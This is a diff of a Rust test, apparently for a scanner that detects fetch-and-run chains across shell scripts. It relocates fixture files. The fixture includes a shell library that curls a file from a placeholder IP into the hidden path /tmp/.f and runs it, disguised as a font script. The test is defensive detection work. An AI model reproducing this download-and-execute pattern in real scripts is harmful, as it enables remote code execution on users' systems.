@@ -55,18 +55,18 @@ async fn what_a_shell_library_defines_and_a_script_joins_stands_where_it_is_load
     let mut repo = TestRepo::new();
     repo.commit(&[
         (
-            b"scripts/lib.sh",
+            b"lib.sh",
             b"src=http://203.0.113.9\npull() { curl -s \"$src/$1\" -o \"$2\"; }\nuse() { chmod u+x \"$1\"; \"$1\" & }\n",
         ),
         (
-            b"scripts/fonts.sh",
+            b"fonts.sh",
             b"#!/bin/bash\n. \"$(dirname \"$0\")/lib.sh\"\npull face /tmp/.f && use /tmp/.f\n",
         ),
-        (b"tools/x.rb", b"puts 1\n"),
-        (b"scripts/b.sh", b"\"$(dirname \"$0\")/../tools/x.rb\"\n. ./lib.sh\necho done\n"),
+        (b"x.rb", b"puts 1\n"),
+        (b"b.sh", b"\"$(dirname \"$0\")/x.rb\"\n. ./lib.sh\necho done\n"),
     ]);
     let copy = copy(&repo, Provider::Semgrep).await;
-    assert_eq!(chains(&copy), [("scripts/fonts.sh", Rule::FetchRun, 2)]);
+    assert_eq!(chains(&copy), [("fonts.sh", Rule::FetchRun, 2)]);
 }
 
 #[tokio::test]
